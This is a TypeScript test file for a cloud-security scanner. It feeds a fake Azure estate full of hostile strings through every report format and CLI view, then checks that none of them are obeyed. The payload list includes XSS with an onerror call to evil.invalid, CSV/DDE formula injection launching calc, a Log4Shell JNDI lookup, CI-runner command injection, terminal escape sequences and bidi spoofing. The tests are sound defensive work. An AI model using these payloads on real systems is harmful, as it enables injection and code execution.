import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { constants, inflateSync } from "node:zlib";
import { XmlDocument } from "libxml2-wasm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FormatName } from "../../src/model/formats.ts";
import { FORMAT_NAMES } from "../../src/model/formats.ts";
import { HAS_BROWSER, startBrowser } from "../browser/chromium.ts";
import { AS_OF } from "../collect/scan-aws.ts";
import { unzip } from "../report/unzip.ts";
import { BINARY, demarc } from "./demarc.ts";
import { expectNoCommand, expectPlain, SGR } from "./hostile-text.ts";

/** An estate whose every name, tag, id and description would do harm, through everything that the program writes. */

/** What each would do where it is obeyed; none of them may be seen as it is. */
const HOSTILE = [
  "\u001b[2J\u001b]0;owned\u0007\u001b]8;;https://evil.invalid\u0007\u009b31m\u0090q",
  "\u202Egnp.exe\u2066\u200b\u200d\ufeff\u00ad\u{e0041}",
  "\n::error file=x::owned\r\n::add-mask::x\n##vso[task.setvariable variable=x]y\n##[error]owned",
  "::stop-commands::owned",
  "in the middle of a line ##vso[task.setvariable variable=x]y, ##[add-mask]x ##teamcity[message text='owned']",
  // Wherever a line is broken, one of these stands there.
  "::error file=x::owned ::error::owned ".repeat(20),
  "x".repeat(37) + "::error::owned".repeat(40),
  '<script>window.owned=1;alert(1)</script><img src="https://evil.invalid/x" onerror="window.owned=1">\'"]]>&amp;<!--',
  '=HYPERLINK("https://evil.invalid")|| [x](javascript:alert(1)) ![x](https://evil.invalid) `|@everyone',
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "__proto__",
  "constructor",
  "${jndi:ldap://evil.invalid}",
  "{{7*7}}",
  "%0A::error::x",
  "\u0000\ud800",
  `${"a".repeat(50_000)}!`,
] as const;
const LONG = "x".repeat(1_000_000);

const folder = mkdtempSync(join(tmpdir(), "demarc-hostile-"));
const at = (name: string): string => join(folder, name);
const RUN = "run.ndjson";

/** Accounts that fail, called and tagged so. */
function estate(texts: readonly string[]): string {
  const data = texts.map((text, index) => ({
    id: `/subscriptions/3f2b8c1e-5a47-4d0b-9c61-7e0f2a9d4b10/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/s${index}${text.replaceAll("/", "_")}`,
    name: text,
    type: "microsoft.storage/storageaccounts",
    location: index % 2 === 0 ? "westeurope" : text.slice(0, 200),
    tags: { [text.slice(0, 500)]: text, owner: text },
    kind: text,
    sku: { name: text },
    properties: { minimumTlsVersion: text, allowBlobPublicAccess: true, supportsHttpsTrafficOnly: false, note: text },
  }));
  return JSON.stringify({ data, count: data.length });
}

beforeAll(() => {
  writeFileSync(at("estate.json"), estate([...HOSTILE, LONG]));
  const scanned = demarc(["scan", at("estate.json"), "--as-of", AS_OF, "--save", at(RUN), "--include", "all"]);
  expect(scanned.exit, scanned.stderr).toBe(1);
  const files = FORMAT_NAMES.filter((name) => name !== "pdf").flatMap((name) => [
    "--format",
    `${name}=${at(`r.${name}`)}`,
  ]);
  expect(demarc(["report", at(RUN), ...files]).exit).toBe(1);
});
afterAll(() => rmSync(folder, { recursive: true }));

const written = (name: FormatName): string => readFileSync(at(`r.${name}`), "utf8");

/** The objects of a PDF as text, the packed ones among them. */
function unpackedPdf(pdf: Buffer): string {
  const text = pdf.toString("latin1");
  const packed = Array.from(text.matchAll(/stream\r?\n([\s\S]*?)endstream/g), ([, bytes]) => {
    try {
      return inflateSync(Buffer.from(bytes!, "latin1"), { finishFlush: constants.Z_SYNC_FLUSH }).toString("latin1");
    } catch {
      return "";
    }
  });
  return [text, ...packed].join("\n");
}

function expectJson(name: FormatName): void {
  const text = written(name);
  expectNoCommand(text);
  expect(Object.hasOwn(JSON.parse(text) as object, "owned")).toBe(false);
}

/** How each format is held: a format that is not here does not compile. */
const CHECKS: Readonly<Record<FormatName, () => void | Promise<void>>> = {
  text: () => expectNoCommand(written("text")),
  json: () => expectJson("json"),
  sarif: () => expectJson("sarif"),
  gitlab: () => expectJson("gitlab"),
  oscal: () => expectJson("oscal"),
  "oscal-ssp": () => expectJson("oscal-ssp"),
  ocsf: () => {
    expectNoCommand(written("ocsf"));
    for (const line of written("ocsf").trim().split("\n")) JSON.parse(line);
  },
  csv: () => {
    expectNoCommand(written("csv"));
    for (const cell of written("csv").split(/\r\n|,(?=")|(?<="),/)) expect(cell).not.toMatch(/^"?[=+@\t\r]|^"?-\D/);
  },
  markdown: () => {
    expectNoCommand(written("markdown"));
    const outside = written("markdown").replaceAll(/(`+)[^`][\s\S]*?\1/g, "");
    expect(outside).not.toMatch(/<script|<img|\]\((?!#)(?!https:\/\/)|!\[|javascript:/i);
  },
  github: () => {
    expectPlain(written("github"));
    const lines = written("github").trim().split("\n");
    for (const line of lines) {
      expect(line).toMatch(/^::(?:error|warning|notice) title=/);
      expect(line).not.toMatch(/##\w*\[/);
    }
    expect(lines.length).toBeLessThanOrEqual(10);
  },
  junit: () => {
    expectNoCommand(written("junit"));
    XmlDocument.fromString(written("junit")).dispose();
  },
  xlsx: () => {
    for (const [name, content] of unzip(readFileSync(at("r.xlsx")))) {
      if (!name.endsWith(".xml")) continue;
      expect(content, name).not.toMatch(/<f[ >]|<hyperlink|externalLink/);
      XmlDocument.fromString(content).dispose();
    }
  },
  html: () => {
    const page = written("html");
    expectNoCommand(page);
    expect(page.match(/<script/g)).toHaveLength(1);
    expect(page).not.toMatch(/<img|<iframe|\son\w+="/);
  },
  // The page of `html`, printed by a browser: held below, where one is.
  pdf: () => {},
};

describe("a hostile estate", () => {
  it.each(FORMAT_NAMES)("is shown and not obeyed: %s", async (name) => {
    await CHECKS[name]();
  });

  const VIEWS: readonly (readonly [string, ...string[]])[] = [
    ...["rule", "resource", "account", "service", "owner"].map((by) => ["report", "RUN", "--group-by", by] as const),
    ["matrix", "RUN"],
    ["diff", "RUN", "RUN"],
    ["check", "RUN"],
    ["check", "estate.json"],
    ["explain", "azure-storage-default-deny-network", "--run", "RUN"],
    ["scan", "no \u001b[31m such\n::error::x.json"],
    ["scan", "estate.json", "--type", "\u001b[2J\n::error::x"],
    ["report", "RUN", "--owner", "\u001b[2J\n::error::x"],
    ["explain", "\u001b[2J\n::error::x"],
  ];
  it.each(VIEWS)("and not in what is printed: %s %s %s %s", (...argv) => {
    const words = argv.map((word) =>
      word === "RUN" || word === "estate.json" ? at(word === "RUN" ? RUN : word) : word,
    );
    const { stdout, stderr } = demarc(words);
    expectNoCommand(stdout);
    expectNoCommand(stderr);
    expect(stdout + stderr).not.toBe("");
  });

  const hasScript = spawnSync("script", ["--version"]).status === 0;
  it.skipIf(!hasScript)(
    "nor on a real terminal, which gets colours and its own line of progress, and nothing else",
    () => {
      const command = `"${process.execPath}" "${BINARY}" scan "${at("estate.json")}" --as-of ${AS_OF}`;
      const { stdout } = spawnSync("script", ["-qec", command, "/dev/null"], {
        encoding: "utf8",
        maxBuffer: 2 ** 28,
        env: { PATH: process.env["PATH"] ?? "", LANG: "C.UTF-8", TERM: "xterm-256color" },
      });
      expect(stdout).toContain("\u001b[");
      // The way back to the start of a line that is erased is demarc's own.
      expectNoCommand(stdout.replaceAll(SGR, "").replaceAll("\r\u001b[K", ""));
    },
  );

  it.skipIf(!HAS_BROWSER)("nor in a PDF: it holds no script, no action and no link of theirs, and their text", () => {
    const words = ["--rule", "azure-storage-no-anonymous-blob-access", "--format", `pdf=${at("few.pdf")}`];
    writeFileSync(at("few.json"), estate(HOSTILE.filter(({ length }) => length < 500)));
    const env = { LANG: "C.UTF-8", PATH: process.env["PATH"] ?? "" };
    const { exit, stderr } = demarc(["scan", at("few.json"), "--as-of", AS_OF, ...words], env);
    expect(exit, stderr).toBe(1);
    const objects = unpackedPdf(readFileSync(at("few.pdf")));
    expect(objects).not.toMatch(/\/(?:JavaScript|JS|Launch|OpenAction|AA|SubmitForm|GoToR|GoToE|EmbeddedFile)\b/);
    const links = Array.from(objects.matchAll(/\/URI \((.*?)\)/g), ([, address]) => address!);
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((address) => !address.startsWith("https://") || address.includes("evil"))).toEqual([]);
    const shown = execFileSync("pdftotext", ["-raw", at("few.pdf"), "-"], { encoding: "utf8" });
    expect(shown.replaceAll(/\s/g, "")).toContain("<script>window.owned=1;alert(1)</script>");
  });

  it.skipIf(!HAS_BROWSER)(
    "nor by a browser: nothing runs, nothing is asked for, the text is there as text",
    async () => {
      const browser = await startBrowser();
      try {
        const page = await browser.newPage();
        const heard: string[] = [];
        page.on("request", (request) => heard.push(request.url()));
        page.on("dialog", (dialog) => heard.push(dialog.message()));
        page.on("pageerror", (error) => heard.push(error.message));
        await page.goto(`file://${at("r.html")}`);
        expect(heard).toEqual([`file://${at("r.html")}`]);
        expect(await page.evaluate("window.owned")).toBeUndefined();
        expect(await page.evaluate("document.body.textContent")).toContain("<script>window.owned=1;alert(1)</script>");
      } finally {
        await browser.close();
      }
    },
  );
});
